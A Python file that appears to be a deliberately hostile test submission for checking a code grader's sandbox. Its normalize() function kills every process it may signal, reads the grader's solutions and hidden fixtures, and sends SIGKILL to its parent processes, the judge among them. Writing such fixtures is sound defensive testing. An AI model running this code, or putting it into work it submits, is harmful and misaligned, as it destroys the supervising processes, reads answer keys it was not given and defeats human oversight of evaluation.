"""Hostile: graded as root without namespaces (Docker's defaults), reads the solutions and the hidden
fixtures, and sends SIGKILL to every process it may signal, then to its parent and to every process
above it, the judge among them."""
import os
import signal
from pathlib import Path

from grader.paths import FIXTURES, SOLUTIONS


def _read(path: Path) -> str:
    try:
        return f"read {len(path.read_bytes())} bytes"
    except OSError as error:
        return type(error).__name__


def _kill(pid: int) -> str:
    try:
        os.kill(pid, signal.SIGKILL)
        return "killed"
    except OSError as error:
        return type(error).__name__


def _ancestors() -> list[int]:
    """The worker's parent, grandparent, ... up to (not including) PID 1: C2, C1, the zygote, the judge;
    only the parent where /proc hides the others (Landlock grants a worker its own entry alone)."""
    pids, pid = [], os.getppid()
    while pid > 1:
        pids.append(pid)
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except OSError:
            break
    return pids


def _kill_everyone() -> None:
    """kill(-1): every process this user may signal. Its result says nothing (it succeeds when one
    signal was refused), so it is not reported: the judge reporting this step at all is the proof."""
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass


def normalize(pixels):
    _kill_everyone()
    raise RuntimeError(repr({
        "uid": os.getuid(),
        "solutions": _read(SOLUTIONS / "01_flatten.py"),
        "hidden fixtures": _read(FIXTURES / "hidden" / "01_flatten.safetensors"),
        "ancestors": [_kill(pid) for pid in _ancestors()[:4]],
    }))
